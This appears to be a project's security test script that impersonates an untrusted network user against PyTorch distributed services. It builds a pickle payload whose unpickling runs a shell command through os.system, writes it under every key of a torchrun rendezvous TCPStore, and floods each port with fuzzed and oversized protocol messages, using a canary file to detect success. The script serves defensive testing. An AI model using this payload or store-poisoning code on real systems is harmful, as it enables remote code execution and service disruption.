"""A stranger on the network: another user, who knows no secret and writes to every port he finds.

    python -m tests.stranger CANARY MESSAGES HOST:PORT...

At every port at once he tries what runs code in torchrun's own rendezvous (a pickle under each key
of the store), and sends that many messages: noise, pickles, what the protocols of torch's store, of
gloo and of the private store begin with, and connections that stay open. He prints for each port
how many the system of the other side took.
"""

import base64
import encodings.idna  # noqa: F401  # host names need it, and another user may not read Python's files
import os
import pickle
import random
import socket
import struct
import sys
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch.distributed as torch_dist

NOBODY = 65534
MOST_OPEN = 200
"""Connections that he keeps open at one time, each waiting for an answer or for nothing."""
PATIENCE_S = 2.0
MOST_IN_VAIN = 20
"""Connections in a row that nobody takes; then a port is not worth the time."""
STORE_MAGIC = struct.pack("<BI", 0, 0x3C85F7CE)
"""What a client of torch's store says first."""


class Evil:
    """Whoever unpickles it runs a command."""

    def __init__(self, canary: Path) -> None:
        """Take the file that the command makes."""
        self._canary = canary

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        """Tell pickle what to call."""
        return os.system, (f"id > '{self._canary}'",)


def messages(evil: bytes, dice: random.Random) -> Iterator[bytes]:
    """Yield what a stranger may send, without an end."""
    encoded = base64.b64encode(evil)
    while True:
        size = dice.choice((1, 4, 8, 31, 32, 64, 65, 300, 4096))
        whole = struct.pack("!I", size) + dice.randbytes(32 + size)
        yield dice.choice(
            (
                b"",
                dice.randbytes(size),
                evil,
                encoded,
                b"GET / HTTP/1.0\r\n\r\n",
                struct.pack("<Q", dice.randrange(1 << dice.randrange(1, 40))),  # a pair of gloo's
                struct.pack("!I", 1 << 31),  # a frame of 2 GiB
                struct.pack("!I", 1 << 31) + dice.randbytes(64),
                dice.randbytes(64) + whole,  # nonce, proof and a request of the private store
                dice.randbytes(64) + whole + whole,
                STORE_MAGIC + struct.pack("<BQ", 1, size) + dice.randbytes(size) + encoded,
                STORE_MAGIC + dice.randbytes(size),
            )
        )


def write_to(address: tuple[str, int], count: int, evil: bytes) -> int:
    """Send messages over connections of their own; return how many were taken."""
    dice = random.Random(address[1])
    said, taken, in_vain = messages(evil, dice), 0, 0
    held: list[socket.socket] = []
    while taken < count and in_vain < MOST_IN_VAIN:
        try:
            one = socket.create_connection(address, timeout=PATIENCE_S)
        except OSError:
            in_vain += 1
            continue
        held.append(one)
        taken, in_vain = taken + 1, 0
        with suppress(OSError):  # closed or reset in the middle of it: what is to happen
            one.sendall(next(said))
        if len(held) >= MOST_OPEN:
            held.pop(dice.randrange(len(held))).close()
    for one in held:
        one.close()
    return taken


def poison(address: tuple[str, int], evil: bytes) -> None:
    """Put a pickle under every key of a store, as torchrun's c10d rendezvous reads it."""
    host, port = address
    with suppress(RuntimeError, OSError, ValueError):
        store = torch_dist.TCPStore(
            host, port, is_master=False, timeout=timedelta(seconds=2), wait_for_workers=False
        )
        for key in [*store.list_keys(), "torch.rendezvous.none"]:
            store.set(key, base64.b64encode(evil))


def attack(name: str, count: int, evil: bytes) -> str:
    """Attack one port; return its name and how many messages it took."""
    host, _, port = name.rpartition(":")
    address = (host, int(port))
    # A port that is no store's never answers, and torch waits for it without an end.
    thread = threading.Thread(target=poison, args=(address, evil), daemon=True)
    thread.start()
    taken = write_to(address, count, evil)
    thread.join(4)
    return f"{name} {taken}"


def main() -> None:
    """Attack."""
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    canary, count, *ports = sys.argv[1:]
    evil = pickle.dumps(Evil(Path(canary)))
    with ThreadPoolExecutor(len(ports)) as pool:
        for told in pool.map(lambda name: attack(name, int(count), evil), ports):
            print(told)
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
